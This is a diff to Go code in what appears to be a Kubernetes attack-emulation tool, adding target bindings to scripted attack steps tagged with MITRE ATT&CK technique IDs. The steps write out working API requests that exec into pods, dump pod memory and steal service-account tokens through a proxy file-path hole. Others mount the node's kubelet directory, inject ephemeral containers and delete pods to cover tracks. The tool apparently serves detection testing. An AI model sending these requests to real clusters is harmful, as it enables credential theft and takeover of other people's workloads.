@@ -107,15 +107,15 @@ func throughProxies(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
 		}
 	})
 	s.Attack("T1609", "Execution: Exec into container", "runs a command in "+api.String()+" with a GET to the kubelet's exec").
-		As(thief).Do(func(a *stage.Act) {
+		On(api).As(thief).Do(func(a *stage.Act) {
 		a.Request("websocat/1.13.0", "GET", node+"exec/payments/"+api.Name+"/api?command=id&output=1&error=1", "",
 			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v4.channel.k8s.io")
 	})
 	s.Attack("T1003", "Collection: Collecting data from pod", "has the kubelet write a checkpoint of "+api.String()+"'s memory").
-		As(thief).Do(func(a *stage.Act) { a.Request(curl, "POST", node+"checkpoint/payments/"+api.Name+"/api", "") })
+		On(api).As(thief).Do(func(a *stage.Act) { a.Request(curl, "POST", node+"checkpoint/payments/"+api.Name+"/api", "") })
 	var token string
 	s.Attack("T1552.007", "Credential Access: Access container service account", "fetches the token of "+api.String()+" through pods/proxy and a hole of the application").
-		As(thief).Do(func(a *stage.Act) {
+		On(api).As(thief).Do(func(a *stage.Act) {
 		_, token = a.Request(curl, "GET", "/api/v1/namespaces/payments/pods/"+api.Name+":8080/proxy/file?path="+stage.TokenFile, "")
 	})
 	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses the token of "+api.String()+" in its own pod").
@@ -141,9 +141,9 @@ func podForms(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
 		a.Request(goClient, "PATCH", "/api/v1/namespaces/fleet/pods/cache-warm?fieldManager=fleet&force=true",
 			`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"cache-warm"},"spec":{"terminationGracePeriodSeconds":0,"containers":[{"name":"main","image":"`+imageHelper+`","imagePullPolicy":"IfNotPresent","command":["sleep","3600"],"volumeMounts":[{"name":"v","mountPath":"/v"}]}],"volumes":[{"name":"v","hostPath":{"path":"/var/lib/kubelet"}}]}}`, applyPatch)
 	})
-	s.PodNamed("fleet", "cache-warm")
+	warm := s.PodNamed("fleet", "cache-warm")
 	s.Attack("T1609", "Execution: Exec into container", "lists the files of the node's pods in it, by a bare exec request").
-		As(thief).Do(func(a *stage.Act) {
+		On(warm).As(thief).Do(func(a *stage.Act) {
 		a.Request("python-websocket/1.8", "GET", "/api/v1/namespaces/fleet/pods/cache-warm/exec?command=ls&command=/v/pods&stdout=true", "",
 			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v5.channel.k8s.io")
 	})
@@ -153,11 +153,11 @@ func podForms(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
 	})
 	cart := s.Pod("shop", "app=cart")
 	s.Attack("T1610", "Execution: New container", "makes a copy of "+cart.String()+" with another image and shared processes").
-		As(thief).Do(func(a *stage.Act) {
+		On(cart).As(thief).Do(func(a *stage.Act) {
 		a.Kubectl("-n", "shop", "debug", cart.Name, "--copy-to=cart-inspect", "--set-image=*="+imageNetshoot, "--share-processes", "--same-node")
 	})
 	s.Attack("T1609", "Execution: New container", "adds a container to "+cart.String()+" by a PUT of its ephemeral containers").
-		As(thief).Do(func(a *stage.Act) {
+		On(cart).As(thief).Do(func(a *stage.Act) {
 		_, body := a.Request(curl, "GET", "/api/v1/namespaces/shop/pods/"+cart.Name, "")
 		const added = `"spec":{"ephemeralContainers":[{"name":"t","image":"` + imageNetshoot + `","imagePullPolicy":"IfNotPresent","command":["sleep","600"],"targetContainerName":"cart"}],`
 		a.Request(curl, "PUT", "/api/v1/namespaces/shop/pods/"+cart.Name+"/ephemeralcontainers", strings.Replace(body, `"spec":{`, added, 1))
@@ -168,7 +168,7 @@ func podForms(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
 	})
 	moved := s.PodNamed("kube-system", "kube-dns-autoscaler")
 	s.Attack("T1552.007", "Credential Access: Access container service account", "reads the controller's token by exec").
-		As(thief).Do(func(a *stage.Act) {
+		On(moved).As(thief).Do(func(a *stage.Act) {
 		a.Kubectl("-n", "kube-system", "exec", moved.Name, "--", "cat", stage.TokenFile)
 	})
 	s.Attack("T1070", "Defense Evasion: Clear container logs", "deletes the pods it made, one by one without delay").
